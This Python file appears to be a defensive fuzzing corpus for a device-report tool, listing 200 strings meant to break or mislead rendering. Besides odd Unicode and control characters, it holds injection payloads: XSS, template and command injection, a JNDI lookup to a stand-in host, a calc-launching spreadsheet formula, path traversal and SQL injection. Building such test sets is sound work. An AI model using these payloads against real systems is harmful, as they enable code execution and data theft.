# SPDX-FileCopyrightText: 2026 DeviceCheck contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Two hundred texts that a phone may send to break, mislead or run something in a report. Always the same ones."""

from itertools import islice, product

MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</style><style>*{display:none}", "</title><b>",
    "<!-- ", "]]>", "&lt;b&gt;&#x27;", "<svg/onload=alert(1)>", "javascript:alert(1)", "\"><iframe src=//e.example>",
    "[b]bold[/b]", "[/]", "[@click=app.quit]x[/]", "*bold* _it_ `code`", "# heading", "= typst heading",
    "#import \"@preview/x:1.0.0\"", "#read(\"/etc/passwd\")", "$x^2$", "\\ \\u{202e}", "@label <label>",
    "{{ 7*7 }}", "{% include 'x' %}", "{app.__class__}", "%s%n%d", "${jndi:ldap://e.example}", "`id`", "$(id)",
)  # fmt: skip
FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "=cmd|'/c calc'!A1", "\t=1+1", "\r=1+1", '=HYPERLINK("http://e")')
CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(0, 0x20), 0x7F, 0x85, 0x9B, 0x9D))
ANSI = ("\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J", "\x9b31m", "\x1b]8;;http://e.example\x07link\x1b]8;;\x07")
BIDI = tuple(
    f"evil{mark}gnp.apk" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
)
HIDDEN = tuple(
    f"a{mark}b"
    for mark in "\u00ad\u034f\u115f\u1160\u17b4\u180e\u200b\u2028\u2029\u2060\u2063\u2800\u3164\ufeff\uffa0"
    "\ue000\ue001\ue002\ue0d0"
)
EMOJI = (
    "😀",
    "👩‍👧",
    "🏳️‍🌈",
    "微信",
    "한국어",
    "עברית",
    "خدمة النظام",
    "ਪੰਜਾਬੀ",
    "বাংলা",
    "اردو",
    "Łódź",
    "ﷺ",
    "𝓐𝓫𝓬",
    "🇬🇧",
    "\U000e0041",
)
LONG = (
    "W" * 400,
    "ab " * 133,
    "." * 400,
    "e" + "\u0301" * 399,
    "ا" * 400,
    "/" * 400,
    "com." * 100,
    "-" * 400,
    "😀" * 400,
)
ODD = (
    "",
    " ",
    "\u3000",
    "null",
    "None",
    "NaN",
    "../../etc/passwd",
    "C:\\x\\y",
    "a\nb\r\nc",
    "'; DROP TABLE x; --",
    "\ufffd",
    "\uffff",
    "\U0001fffe",
)

_SINGLE = (*MARKUP, *FORMULAS, *CONTROLS, *ANSI, *BIDI, *HIDDEN, *EMOJI, *LONG, *ODD)
_PAIRS = (f"{first} {second}" for first, second in product(BIDI, MARKUP))

TEXTS: tuple[str, ...] = (*_SINGLE, *islice(_PAIRS, max(0, 200 - len(_SINGLE))))
